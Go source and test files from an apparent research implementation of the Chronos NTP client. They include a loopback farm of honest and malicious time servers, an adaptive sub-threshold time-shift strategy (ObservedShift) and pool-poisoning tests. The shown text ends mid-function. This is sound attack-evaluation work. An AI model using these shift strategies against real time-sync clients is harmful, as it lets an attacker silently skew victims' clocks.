			// --- wire path: one listener replaying the same arrival instants
			// through an injected deterministic clock.
			served := 0
			wireNow := func() time.Time {
				now := start.Add(time.Duration(served) * interval)
				served++
				return now
			}
			wsrv, err := wirenet.Serve(wirenet.ServerConfig{
				Listeners: 1,
				Responder: ntpserver.NewResponder(mkConfig(start)),
				Now:       wireNow,
			})
			if err != nil {
				t.Fatal(err)
			}
			defer wsrv.Close()
			conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(wsrv.AddrPort()))
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			var buf [64]byte
			for k := range reqs {
				if _, err := conn.Write(reqs[k]); err != nil {
					t.Fatal(err)
				}
				if err := conn.SetReadDeadline(time.Now().Add(2 * time.Second)); err != nil {
					t.Fatal(err)
				}
				n, err := conn.Read(buf[:])
				if err != nil {
					t.Fatalf("wire reply %d: %v", k, err)
				}
				if !bytes.Equal(buf[:n], simReplies[k]) {
					t.Fatalf("reply %d differs between transports:\n  sim:  %x\n  wire: %x", k, simReplies[k], buf[:n])
				}
			}
		})
	}
}

// conformanceChronos is the shared rule parameterisation for the
// decision-conformance scenarios.
func conformanceChronos() chronos.Config {
	return chronos.Config{
		SampleSize:   9,
		Omega:        25 * time.Millisecond,
		ErrBound:     30 * time.Millisecond,
		Retries:      2,
		MinReplies:   6,
		QueryTimeout: 500 * time.Millisecond,
	}
}

// runWireRounds boots a loopback farm and runs a Syncer over real UDP.
func runWireRounds(t *testing.T, honest, malicious int, honestErr time.Duration, strat ntpserver.ShiftStrategy, seed int64, rounds int) ([]wirenet.RoundTrace, chronos.Stats, []time.Duration) {
	t.Helper()
	farm, err := interoptest.StartFarm(interoptest.FarmConfig{
		Honest:    honest,
		HonestErr: honestErr,
		Malicious: malicious,
		Strategy:  strat,
		Seed:      11,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()
	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{Pool: farm.Pool, Seed: seed, Chronos: conformanceChronos()})
	if err != nil {
		t.Fatal(err)
	}
	traces := make([]wirenet.RoundTrace, rounds)
	for r := range traces {
		traces[r] = sy.SyncRound()
	}
	return traces, sy.Stats(), farm.Offsets
}

// runSimRounds rebuilds the identical topology on the simulator —
// index-aligned servers with the same clock offsets and the same
// strategy — and runs a Syncer with the same seed over a SimTransport.
func runSimRounds(t *testing.T, offsets []time.Duration, honest int, strat ntpserver.ShiftStrategy, seed int64, rounds int) ([]wirenet.RoundTrace, chronos.Stats) {
	t.Helper()
	nw := simnet.New(simnet.Config{Seed: 5})
	pool := make([]netip.AddrPort, 0, len(offsets))
	for i := range offsets {
		host, err := nw.AddHost(simnet.IP{203, 0, 113, byte(i + 1)})
		if err != nil {
			t.Fatal(err)
		}
		cfg := ntpserver.Config{}
		if i < honest {
			cfg.Clock = clock.New(nw.Now(), offsets[i], 0)
		} else {
			cfg.Strategy = strat
		}
		srv, err := ntpserver.New(host, cfg)
		if err != nil {
			t.Fatal(err)
		}
		pool = append(pool, srv.Addr().AddrPort())
	}
	clientHost, err := nw.AddHost(simnet.IP{10, 0, 0, 1})
	if err != nil {
		t.Fatal(err)
	}
	st := &wirenet.SimTransport{Host: clientHost}
	sy, err := wirenet.NewSyncer(st, wirenet.SyncerConfig{Pool: pool, Seed: seed, Chronos: conformanceChronos()})
	if err != nil {
		t.Fatal(err)
	}
	traces := make([]wirenet.RoundTrace, rounds)
	for r := range traces {
		traces[r] = sy.SyncRound()
	}
	return traces, sy.Stats()
}

// TestConformanceRuleDecisions pins the chronos.Rule decision sequence
// across transports: the same seeded scenario — same pool composition,
// same honest clock errors, same attacker strategy, same sampling seed —
// must walk the identical verdict/action ladder (including re-sampling
// and panic escalation) whether samples travel over real loopback UDP
// or through the discrete-event simulator. Offsets differ only by
// link-jitter noise, so applied updates agree to a few milliseconds
// while every discrete decision agrees exactly.
func TestConformanceRuleDecisions(t *testing.T) {
	const rounds = 3
	scenarios := []struct {
		name      string
		honest    int
		malicious int
		honestErr time.Duration
		strat     ntpserver.ShiftStrategy
	}{
		{"honest-pool", 13, 0, 8 * time.Millisecond, nil},
		{"poisoned-two-thirds", 4, 9, 8 * time.Millisecond, ntpserver.ConstantShift(200 * time.Millisecond)},
	}
	const seed = 42
	const updateTolerance = 6 * time.Millisecond

	for _, sc := range scenarios {
		t.Run(sc.name, func(t *testing.T) {
			wire, wireStats, offsets := runWireRounds(t, sc.honest, sc.malicious, sc.honestErr, sc.strat, seed, rounds)
			sim, simStats := runSimRounds(t, offsets, sc.honest, sc.strat, seed, rounds)

			for r := 0; r < rounds; r++ {
				w, s := wire[r], sim[r]
				if len(w.Attempts) != len(s.Attempts) {
					t.Fatalf("round %d: attempt counts differ: wire=%d sim=%d", r, len(w.Attempts), len(s.Attempts))
				}
				for a := range w.Attempts {
					if w.Attempts[a].OK != s.Attempts[a].OK || w.Attempts[a].Reason != s.Attempts[a].Reason {
						t.Fatalf("round %d attempt %d: verdicts differ: wire={ok:%v reason:%v} sim={ok:%v reason:%v}",
							r, a, w.Attempts[a].OK, w.Attempts[a].Reason, s.Attempts[a].OK, s.Attempts[a].Reason)
					}
					if w.Actions[a] != s.Actions[a] {
						t.Fatalf("round %d attempt %d: actions differ: wire=%v sim=%v", r, a, w.Actions[a], s.Actions[a])
					}
				}
				if w.Panicked != s.Panicked || w.Applied != s.Applied {
					t.Fatalf("round %d: outcome differs: wire={panic:%v applied:%v} sim={panic:%v applied:%v}",
						r, w.Panicked, w.Applied, s.Panicked, s.Applied)
				}
				if d := w.Update - s.Update; d < -updateTolerance || d > updateTolerance {
					t.Fatalf("round %d: applied updates diverge beyond jitter: wire=%v sim=%v", r, w.Update, s.Update)
				}
			}
			if wireStats.Updates != simStats.Updates || wireStats.Resamples != simStats.Resamples ||
				wireStats.Panics != simStats.Panics || wireStats.PanicUpdates != simStats.PanicUpdates {
				t.Fatalf("stats diverge:\n  wire: %+v\n  sim:  %+v", wireStats, simStats)
			}
		})
	}
}
