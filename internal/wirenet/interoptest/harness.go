// Package interoptest is the loopback interop harness: it boots farms of
// real UDP NTP servers (honest ones with randomised clock errors, plus
// attacker-controlled ones driven by ntpserver shift strategies) on
// 127.0.0.1 and hands back the pool of endpoints, so tests and the
// poolsrv binary can drive real wirenet clients — and the fleet
// attacker's adaptive strategies — against real sockets under load.
//
// It mirrors ntpserver.Farm / ntpserver.MaliciousFarm on the wire: the
// same clock-error distribution, the same strategy hook, one wirenet
// server process-wide per pool member instead of one simnet host.
package interoptest

import (
	"fmt"
	"math/rand"
	"net/netip"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
	"chronosntp/internal/wirenet"
)

// FarmConfig parameterises a loopback farm.
type FarmConfig struct {
	// Addr is the listen address every server binds (it must carry port
	// 0 when the farm has more than one member); default "127.0.0.1:0".
	Addr string
	// Honest is the number of well-behaved servers.
	Honest int
	// HonestErr bounds each honest server's random clock offset (drawn
	// uniformly from ±HonestErr, like ntpserver.Farm); 0 means perfect
	// clocks.
	HonestErr time.Duration
	// Malicious is the number of attacker-controlled servers.
	Malicious int
	// Strategy drives the malicious servers' lies; nil with Malicious>0
	// falls back to a constant 250 ms shift.
	Strategy ntpserver.ShiftStrategy
	// Seed makes the honest clock errors reproducible; 0 means 1.
	Seed int64
	// Listeners per server; default 1 (farms are many small servers, not
	// one big one).
	Listeners int
	// Now is injected into every server (default time.Now).
	Now func() time.Time
}

// Farm is a running set of loopback NTP servers.
type Farm struct {
	Servers []*wirenet.Server
	// Pool lists every server endpoint, honest first, in creation order —
	// index-aligned with Servers and with the Offsets below.
	Pool []netip.AddrPort
	// Offsets records each honest server's configured clock error
	// (malicious entries are zero; their lie lives in the strategy).
	Offsets []time.Duration
}

// StartFarm boots the farm. On any error it tears down the servers it
// already started.
func StartFarm(cfg FarmConfig) (*Farm, error) {
	if cfg.Honest < 0 || cfg.Malicious < 0 || cfg.Honest+cfg.Malicious == 0 {
		return nil, fmt.Errorf("interoptest: farm needs at least one server (honest=%d malicious=%d)", cfg.Honest, cfg.Malicious)
	}
	seed := cfg.Seed
	if seed == 0 {
		seed = 1
	}
	rng := rand.New(rand.NewSource(seed))
	strategy := cfg.Strategy
	if strategy == nil {
		strategy = ntpserver.ConstantShift(250 * time.Millisecond)
	}
	addr := cfg.Addr
	if addr == "" {
		addr = "127.0.0.1:0"
	}

	f := &Farm{}
	boot := func(responder *ntpserver.Responder, offset time.Duration) error {
		srv, err := wirenet.Serve(wirenet.ServerConfig{
			Addr:      addr,
			Listeners: max(cfg.Listeners, 1),
			Responder: responder,
			Now:       cfg.Now,
		})
		if err != nil {
			return err
		}
		f.Servers = append(f.Servers, srv)
		f.Pool = append(f.Pool, srv.AddrPort())
		f.Offsets = append(f.Offsets, offset)
		return nil
	}

	for i := 0; i < cfg.Honest; i++ {
		var off time.Duration
		if cfg.HonestErr > 0 {
			off = time.Duration(rng.Int63n(int64(2*cfg.HonestErr))) - cfg.HonestErr
		}
		r := ntpserver.NewResponder(ntpserver.Config{Clock: clock.New(time.Time{}, off, 0)})
		if err := boot(r, off); err != nil {
			f.Close()
			return nil, fmt.Errorf("interoptest: honest server %d: %w", i, err)
		}
	}
	for i := 0; i < cfg.Malicious; i++ {
		r := ntpserver.NewResponder(ntpserver.Config{Strategy: strategy})
		if err := boot(r, 0); err != nil {
			f.Close()
			return nil, fmt.Errorf("interoptest: malicious server %d: %w", i, err)
		}
	}
	return f, nil
}

// Close shuts every server down (graceful drain each).
func (f *Farm) Close() {
	for _, s := range f.Servers {
		_ = s.Close()
	}
}

// TotalServed sums answered requests across the farm.
func (f *Farm) TotalServed() uint64 {
	var n uint64
	for _, s := range f.Servers {
		n += s.Served()
	}
	return n
}

// ObservedShift is the fleet attacker's adaptive MitM strategy on the
// wire: it reads the client's disciplined clock straight off the
// request's transmit timestamp and serves whatever lie places the
// measured sample exactly at Target — the request-aware trick the
// shiftsim engine's adaptive strategies use, here exercised over real
// sockets. Safe for concurrent use (stateless).
type ObservedShift struct {
	// Target is where the served sample should land, as seen by the
	// client (sample ≈ shift − clientError, so shift = Target + observed
	// client error).
	Target time.Duration
	// Now supplies the attacker's reference clock; default time.Now.
	// Inject the same fake clock as the servers' when testing.
	Now func() time.Time
}

var _ ntpserver.RequestShiftStrategy = ObservedShift{}

// Shift implements ntpserver.ShiftStrategy (unreachable: the responder
// prefers ShiftForRequest).
func (o ObservedShift) Shift(time.Time) time.Duration { return o.Target }

// ShiftForRequest implements ntpserver.RequestShiftStrategy.
func (o ObservedShift) ShiftForRequest(now time.Time, req *ntpwire.Packet, _ simnet.Addr) time.Duration {
	ref := now
	if o.Now != nil {
		ref = o.Now()
	}
	observed := req.TransmitTime.Time().Sub(ref)
	return o.Target + observed
}
