package interoptest

import (
	"net"
	"net/netip"
	"testing"
	"time"

	"chronosntp/internal/chronos"
	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/wirenet"
)

// interopChronos returns rule parameters sized for the small loopback
// pools these tests boot (the paper's m=15 assumes hundreds of servers).
func interopChronos(m, trim, minReplies int) chronos.Config {
	return chronos.Config{
		SampleSize:   m,
		Trim:         trim,
		Omega:        25 * time.Millisecond,
		ErrBound:     30 * time.Millisecond,
		Retries:      2,
		MinReplies:   minReplies,
		QueryTimeout: 500 * time.Millisecond,
	}
}

// TestInteropHonestConvergence syncs a real chronos-rule client over
// loopback UDP against an all-honest farm with ±20ms clock errors:
// every round must accept on the first attempt and the disciplined
// clock must end up inside the honest error band.
func TestInteropHonestConvergence(t *testing.T) {
	farm, err := StartFarm(FarmConfig{Honest: 8, HonestErr: 20 * time.Millisecond, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()

	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{
		Pool:    farm.Pool,
		Seed:    7,
		Chronos: interopChronos(6, 2, 4),
	})
	if err != nil {
		t.Fatal(err)
	}
	const rounds = 3
	for r := 0; r < rounds; r++ {
		trace := sy.SyncRound()
		if !trace.Applied || trace.Panicked {
			t.Fatalf("round %d against honest farm: applied=%v panicked=%v (attempts=%d)",
				r, trace.Applied, trace.Panicked, len(trace.Attempts))
		}
	}
	if st := sy.Stats(); st.Updates != rounds {
		t.Fatalf("updates=%d, want %d (stats %+v)", st.Updates, rounds, st)
	}
	if corr := sy.Correction(); corr < -25*time.Millisecond || corr > 25*time.Millisecond {
		t.Fatalf("correction %v outside the honest error band", corr)
	}
	if served := farm.TotalServed(); served < rounds*4 {
		t.Fatalf("farm served only %d requests", served)
	}
}

// TestInteropPoisonedPanic drives the client against a ≥2/3-poisoned
// farm lying far outside ErrBound: every attempt must fail C1/C2 and
// the round must escalate through re-sampling into panic mode, where
// the middle third — all attacker servers — sets the clock. This is the
// paper's pool-poisoning result reproduced over real sockets.
func TestInteropPoisonedPanic(t *testing.T) {
	lie := 300 * time.Millisecond
	farm, err := StartFarm(FarmConfig{
		Honest:    2,
		Malicious: 7,
		Strategy:  ntpserver.ConstantShift(lie),
		Seed:      5,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()

	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{
		Pool:    farm.Pool,
		Seed:    9,
		Chronos: interopChronos(6, 2, 4),
	})
	if err != nil {
		t.Fatal(err)
	}
	trace := sy.SyncRound()
	if !trace.Panicked || !trace.Applied {
		t.Fatalf("poisoned round did not panic+apply: %+v", trace)
	}
	for a, v := range trace.Attempts {
		if v.OK {
			t.Fatalf("attempt %d accepted a 300ms lie: %+v", a, v)
		}
	}
	if d := trace.Update - lie; d < -10*time.Millisecond || d > 10*time.Millisecond {
		t.Fatalf("panic update %v, want ≈%v (middle third is all attackers)", trace.Update, lie)
	}
	st := sy.Stats()
	if st.Panics != 1 || st.PanicUpdates != 1 {
		t.Fatalf("stats %+v, want exactly one panic with an applied panic update", st)
	}
}

// startKoDServer runs a raw UDP responder that answers every request
// with a stratum-0 (kiss-o'-death range) packet echoing the origin —
// a reply that is well-formed but must be rejected by the client's
// validation.
func startKoDServer(t *testing.T) netip.AddrPort {
	t.Helper()
	conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	go func() {
		var buf [1024]byte
		for {
			n, from, err := conn.ReadFromUDPAddrPort(buf[:])
			if err != nil {
				return
			}
			req, err := ntpwire.Decode(buf[:n])
			if err != nil {
				continue
			}
			kod := &ntpwire.Packet{
				Version:     4,
				Mode:        ntpwire.ModeServer,
				Stratum:     0,          // kiss-o'-death
				ReferenceID: 0x52415445, // "RATE"
				OriginTime:  req.TransmitTime,
			}
			_, _ = conn.WriteToUDPAddrPort(kod.Encode(), from)
		}
	}()
	return conn.LocalAddr().(*net.UDPAddr).AddrPort()
}

// TestInteropTimeoutAndKoD mixes a dead endpoint and a kiss-o'-death
// responder into an honest pool: both must contribute nothing (timeout
// and validation-reject respectively) while the round still completes
// off the honest majority.
func TestInteropTimeoutAndKoD(t *testing.T) {
	farm, err := StartFarm(FarmConfig{Honest: 4, HonestErr: 5 * time.Millisecond, Seed: 8})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()

	// A bound-then-closed socket: queries to it either time out or fail
	// fast with a connection-refused from the kernel.
	deadConn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	dead := deadConn.LocalAddr().(*net.UDPAddr).AddrPort()
	deadConn.Close()

	pool := append(append([]netip.AddrPort{}, farm.Pool...), dead, startKoDServer(t))

	// Trim 1: with only four live repliers, trimming two from each end
	// would leave no survivors at all.
	cfg := interopChronos(6, 1, 4)
	cfg.QueryTimeout = 150 * time.Millisecond
	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{Pool: pool, Seed: 2, Chronos: cfg})
	if err != nil {
		t.Fatal(err)
	}
	trace := sy.SyncRound()
	if !trace.Applied || trace.Panicked {
		t.Fatalf("round failed despite honest majority: %+v", trace)
	}
	// m == pool size, so every attempt queried all six endpoints and the
	// two broken ones must be the only missing replies.
	if got := trace.Replies[0]; got != 4 {
		t.Fatalf("first attempt got %d replies, want 4 (dead + KoD must contribute nothing)", got)
	}
}

// TestInteropAdaptiveShiftAttack runs the fleet attacker's adaptive
// observed-clock strategy against a real client over loopback: each
// lie lands the sample just under ErrBound relative to the client's
// *disciplined* clock (read off the request's transmit timestamp), so
// no single round looks anomalous — every accepted update is within
// the C2 bound — yet the corrections compound round over round. This
// is the paper's time-shift pitfall end-to-end on real sockets.
func TestInteropAdaptiveShiftAttack(t *testing.T) {
	target := 24 * time.Millisecond // under ω (25ms) and ErrBound (30ms)
	farm, err := StartFarm(FarmConfig{
		Honest:    3,
		Malicious: 9,
		Strategy:  ObservedShift{Target: target},
		Seed:      4,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer farm.Close()

	tr := &wirenet.UDPTransport{}
	sy, err := wirenet.NewSyncer(tr, wirenet.SyncerConfig{
		Pool:    farm.Pool,
		Seed:    13,
		Chronos: interopChronos(6, 2, 4),
	})
	if err != nil {
		t.Fatal(err)
	}

	const rounds = 10
	errBound := sy.Config().ErrBound
	prev := time.Duration(0)
	for r := 0; r < rounds; r++ {
		trace := sy.SyncRound()
		if trace.Applied {
			if trace.Update > errBound+2*time.Millisecond {
				t.Fatalf("round %d: update %v exceeds ErrBound — attack was not sub-threshold", r, trace.Update)
			}
			if trace.Update < -2*time.Millisecond {
				t.Fatalf("round %d: attack lost ground: update %v", r, trace.Update)
			}
		}
		if corr := sy.Correction(); corr < prev-2*time.Millisecond {
			t.Fatalf("round %d: correction regressed from %v to %v", r, prev, corr)
		} else {
			prev = corr
		}
	}
	// The compounded shift must dwarf what any single round could inject.
	if corr := sy.Correction(); corr < 2*target {
		t.Fatalf("after %d rounds the attacker only shifted the clock %v (want ≥ %v)", rounds, corr, 2*target)
	}
	if tc := tr.Correction(); tc != sy.Correction() {
		t.Fatalf("transport clock (%v) and syncer bookkeeping (%v) disagree", tc, sy.Correction())
	}
}
