package wirenet

import (
	"net"
	"net/netip"
	"sync"
	"testing"
	"time"

	"chronosntp/internal/ntpserver"
	"chronosntp/internal/ntpwire"
)

// fuzzEnv lazily boots one shared server plus a sink socket that plays
// the "client" (it is never read; replies just land in its kernel
// buffer). f.Fuzz callbacks within one worker process run sequentially,
// so sharing the server's per-call packet state below is safe.
var fuzzEnv struct {
	once sync.Once
	srv  *Server
	sink netip.AddrPort
	err  error
}

func fuzzServer(t testing.TB) (*Server, netip.AddrPort) {
	fuzzEnv.once.Do(func() {
		fuzzEnv.srv, fuzzEnv.err = Serve(ServerConfig{Listeners: 1})
		if fuzzEnv.err != nil {
			return
		}
		sink, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			fuzzEnv.err = err
			return
		}
		fuzzEnv.sink = sink.LocalAddr().(*net.UDPAddr).AddrPort()
	})
	if fuzzEnv.err != nil {
		t.Fatal(fuzzEnv.err)
	}
	return fuzzEnv.srv, fuzzEnv.sink
}

// FuzzServeRequest drives the server's per-datagram path with arbitrary
// payloads, asserting the parse/validate/respond pipeline never panics
// and replies exactly to well-formed mode-3 requests.
func FuzzServeRequest(f *testing.F) {
	f.Add(ntpwire.NewClientPacket(time.Unix(1591000000, 0)).Encode())
	f.Add([]byte{})
	f.Add([]byte{0x23})
	f.Add(make([]byte, ntpwire.PacketSize-1))
	f.Add(make([]byte, ntpwire.PacketSize+16))
	f.Add((&ntpwire.Packet{Version: 4, Mode: ntpwire.ModeServer}).Encode())
	f.Add((&ntpwire.Packet{Version: 7, Mode: ntpwire.ModeClient}).Encode())

	f.Fuzz(func(t *testing.T, data []byte) {
		srv, sink := fuzzServer(t)
		var st ntpserver.ServeState
		out := make([]byte, 0, ntpwire.PacketSize)

		servedBefore := srv.Served()
		_, answered := srv.serveOne(&st, out, data, sink)
		resp := &st.Resp

		var want ntpwire.Packet
		wantAnswer := ntpwire.DecodeInto(&want, data) == nil && want.Mode == ntpwire.ModeClient
		if answered != wantAnswer {
			t.Fatalf("answered=%v, want %v for payload %x", answered, wantAnswer, data)
		}
		if !answered {
			return
		}
		if srv.Served() != servedBefore+1 {
			t.Fatalf("served counter did not advance")
		}
		if resp.Mode != ntpwire.ModeServer {
			t.Fatalf("reply mode = %d, want server", resp.Mode)
		}
		if resp.Stratum == 0 {
			t.Fatalf("reply stratum 0 (kiss-o'-death) from an honest responder")
		}
		if resp.OriginTime != want.TransmitTime {
			t.Fatalf("origin echo broken: got %v, want %v", resp.OriginTime, want.TransmitTime)
		}
		if resp.TransmitTime.Time().Before(resp.ReceiveTime.Time()) {
			t.Fatalf("transmit %v before receive %v", resp.TransmitTime.Time(), resp.ReceiveTime.Time())
		}
	})
}
