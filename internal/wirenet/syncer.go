package wirenet

import (
	"errors"
	"math/rand"
	"net/netip"
	"time"

	"chronosntp/internal/chronos"
)

// Syncer drives the Chronos decision core — chronos.Rule sampling and
// evaluation plus the chronos.Round re-sample/panic escalation — over
// any Transport. It is the real-wire counterpart of chronos.Client: the
// same SampleIndices draw, the same C1/C2 acceptance, the same
// escalation ladder, only the packet plumbing swapped out underneath.
// One Syncer with one seed makes the identical sampling decisions
// whether it holds a SimTransport or a UDPTransport, which is what the
// transport-conformance tests assert.
type Syncer struct {
	tr   Transport
	pool []netip.AddrPort
	rng  *rand.Rand
	rule chronos.Rule
	cfg  chronos.Config

	correction time.Duration
	stats      chronos.Stats
}

// SyncerConfig parameterises a Syncer.
type SyncerConfig struct {
	// Pool is the generated server pool (what chronos.Client accumulates
	// over 24 hours of DNS; here it is handed in directly).
	Pool []netip.AddrPort
	// Seed feeds the sampling RNG; 0 means 1.
	Seed int64
	// Chronos carries the NDSS'18 parameters (m, d, ω, ErrBound, K,
	// QueryTimeout); zero fields take the package defaults.
	Chronos chronos.Config
}

// NewSyncer builds a Syncer over tr.
func NewSyncer(tr Transport, cfg SyncerConfig) (*Syncer, error) {
	if len(cfg.Pool) == 0 {
		return nil, errors.New("wirenet: syncer needs a non-empty pool")
	}
	seed := cfg.Seed
	if seed == 0 {
		seed = 1
	}
	rule := chronos.NewRule(cfg.Chronos)
	pool := make([]netip.AddrPort, len(cfg.Pool))
	copy(pool, cfg.Pool)
	return &Syncer{
		tr:   tr,
		pool: pool,
		rng:  rand.New(rand.NewSource(seed)),
		rule: rule,
		cfg:  rule.Config(),
	}, nil
}

// Config returns the effective Chronos configuration.
func (s *Syncer) Config() chronos.Config { return s.cfg }

// Stats returns an activity snapshot (the same counters chronos.Client
// keeps, minus the DNS pool-generation ones).
func (s *Syncer) Stats() chronos.Stats { return s.stats }

// Correction reports the total discipline applied to the transport's
// client clock across all rounds.
func (s *Syncer) Correction() time.Duration { return s.correction }

// RoundTrace records every decision one SyncRound made, in order — the
// evidence the conformance tests compare across transports.
type RoundTrace struct {
	Attempts []chronos.Verdict // per-attempt rule verdicts
	Actions  []chronos.Action  // per-attempt escalation decisions
	Replies  []int             // per-attempt reply counts
	Panicked bool              // the round fell through to panic mode
	Applied  bool              // a clock correction was applied
	Update   time.Duration     // the applied correction (normal or panic path)
}

// SyncRound runs one full Chronos synchronisation round: sample m
// servers, evaluate C1/C2, re-sample up to K times on failure, then fall
// through to panic mode (query the whole pool, trust the middle third).
// Accepted updates are applied to the transport's clock via Step.
func (s *Syncer) SyncRound() RoundTrace {
	s.stats.Rounds++
	round := chronos.NewRound(s.cfg.Retries)
	var tr RoundTrace
	for {
		idx := s.rule.SampleIndices(s.rng, len(s.pool))
		offsets := s.collect(idx)
		v := s.rule.Evaluate(offsets)
		if v.Reason == chronos.FailInsufficient {
			s.stats.IncompleteRound++
		}
		act := round.Submit(v)
		tr.Attempts = append(tr.Attempts, v)
		tr.Actions = append(tr.Actions, act)
		tr.Replies = append(tr.Replies, len(offsets))

		switch act {
		case chronos.Apply:
			s.apply(v.Update)
			s.stats.Updates++
			tr.Applied, tr.Update = true, v.Update
			return tr
		case chronos.Resample:
			s.stats.Resamples++
		case chronos.Panic:
			s.stats.Panics++
			tr.Panicked = true
			all := make([]int, len(s.pool))
			for i := range all {
				all[i] = i
			}
			offsets := s.collect(all)
			tr.Replies = append(tr.Replies, len(offsets))
			if up, ok := s.rule.PanicUpdate(offsets); ok {
				s.apply(up)
				s.stats.PanicUpdates++
				tr.Applied, tr.Update = true, up
			} else {
				s.stats.IncompleteRound++
			}
			return tr
		}
	}
}

// collect queries the pool members at the given indices sequentially and
// returns the offsets of the servers that answered in time. Timeouts and
// invalid replies contribute nothing, exactly as dropped responses do in
// the simulated client.
func (s *Syncer) collect(idx []int) []time.Duration {
	offsets := make([]time.Duration, 0, len(idx))
	for _, i := range idx {
		sample, err := s.tr.Exchange(s.pool[i], s.cfg.QueryTimeout)
		if err != nil {
			continue
		}
		offsets = append(offsets, sample.Offset)
	}
	return offsets
}

// apply disciplines the transport clock and the bookkeeping.
func (s *Syncer) apply(update time.Duration) {
	s.tr.Step(update)
	s.correction += update
}
