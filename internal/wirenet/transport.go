package wirenet

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

// ErrTimeout is returned by Exchange when no valid reply arrives within
// the query deadline.
var ErrTimeout = errors.New("wirenet: exchange timed out")

// Sample is the measurement from one NTP client exchange.
type Sample struct {
	Offset time.Duration  // server clock − client clock (RFC 5905 §8)
	Delay  time.Duration  // round-trip delay
	Resp   ntpwire.Packet // the validated server reply
}

// Transport performs one client NTP exchange. Two implementations exist:
// UDPTransport speaks real sockets in real time, SimTransport drives the
// discrete-event simulator in virtual time. A Syncer is oblivious to
// which one it holds — that seam is what lets the conformance tests pin
// wire mode to the simulator.
//
// The transport owns the client's disciplined clock: Exchange measures
// offsets against it, Step applies a synchronisation correction to it
// (the real-wire analogue of clock.Clock.Step — the OS clock is never
// touched).
type Transport interface {
	// Exchange sends one mode-3 request to server and waits up to
	// timeout for a valid reply (mode 4, non-zero stratum, origin echo).
	Exchange(server netip.AddrPort, timeout time.Duration) (Sample, error)
	// Step disciplines the transport's client clock by delta.
	Step(delta time.Duration)
}

// UDPTransport exchanges NTP packets over real UDP sockets. The zero
// value is ready to use and reads the client clock from time.Now; the
// accumulated Step corrections are layered on top, so the transmit
// timestamps leaked in requests expose the *disciplined* clock — exactly
// the side channel adaptive MitM strategies read.
type UDPTransport struct {
	// Base supplies raw client clock readings; default time.Now.
	Base func() time.Time

	mu         sync.Mutex
	correction time.Duration
}

var _ Transport = (*UDPTransport)(nil)

// now reads the disciplined client clock.
func (t *UDPTransport) now() time.Time {
	t.mu.Lock()
	corr := t.correction
	t.mu.Unlock()
	if t.Base != nil {
		return t.Base().Add(corr)
	}
	return time.Now().Add(corr)
}

// Step implements Transport.
func (t *UDPTransport) Step(delta time.Duration) {
	t.mu.Lock()
	t.correction += delta
	t.mu.Unlock()
}

// Correction returns the accumulated discipline applied via Step.
func (t *UDPTransport) Correction() time.Duration {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.correction
}

// Exchange implements Transport over a connected UDP socket. The
// connected socket makes the kernel discard datagrams from any other
// source address — the socket-layer analogue of simnet clients checking
// Meta.From — and the origin-timestamp check rejects replies that do not
// echo our transmit time.
func (t *UDPTransport) Exchange(server netip.AddrPort, timeout time.Duration) (Sample, error) {
	conn, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(server))
	if err != nil {
		return Sample{}, fmt.Errorf("wirenet: dial %s: %w", server, err)
	}
	defer conn.Close()

	t1 := t.now()
	req := ntpwire.NewClientPacket(t1)
	if _, err := conn.Write(req.Encode()); err != nil {
		return Sample{}, fmt.Errorf("wirenet: send to %s: %w", server, err)
	}
	if err := conn.SetReadDeadline(time.Now().Add(timeout)); err != nil {
		return Sample{}, err
	}
	var buf [readBufSize]byte
	for {
		n, err := conn.Read(buf[:])
		if err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				return Sample{}, fmt.Errorf("%w: %s", ErrTimeout, server)
			}
			return Sample{}, fmt.Errorf("wirenet: read from %s: %w", server, err)
		}
		var resp ntpwire.Packet
		if ntpwire.DecodeInto(&resp, buf[:n]) != nil {
			continue // malformed datagram; keep waiting for a valid reply
		}
		if !ntpwire.ValidServerResponse(&resp, ntpwire.TimestampFromTime(t1)) {
			continue // KoD-range stratum, wrong mode, or origin mismatch
		}
		t4 := t.now()
		off, delay := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		return Sample{Offset: off, Delay: delay, Resp: resp}, nil
	}
}

// SimTransport performs the identical exchange against a simnet network,
// driving the event loop from outside (each Exchange pumps the network
// for the query timeout of virtual time, like the chronos.Client's
// per-attempt deadline). The client clock is a clock.Clock over virtual
// time; Step disciplines it exactly as chronos.Client.apply does.
type SimTransport struct {
	Host *simnet.Host
	// Clk is the client's local clock; nil means a perfect clock.
	Clk *clock.Clock
}

var _ Transport = (*SimTransport)(nil)

// clockNow reads the (possibly nil) client clock at a virtual instant.
func (t *SimTransport) clockNow(trueNow time.Time) time.Time {
	if t.Clk == nil {
		return trueNow
	}
	return t.Clk.Now(trueNow)
}

// Step implements Transport.
func (t *SimTransport) Step(delta time.Duration) {
	if t.Clk == nil {
		t.Clk = &clock.Clock{}
	}
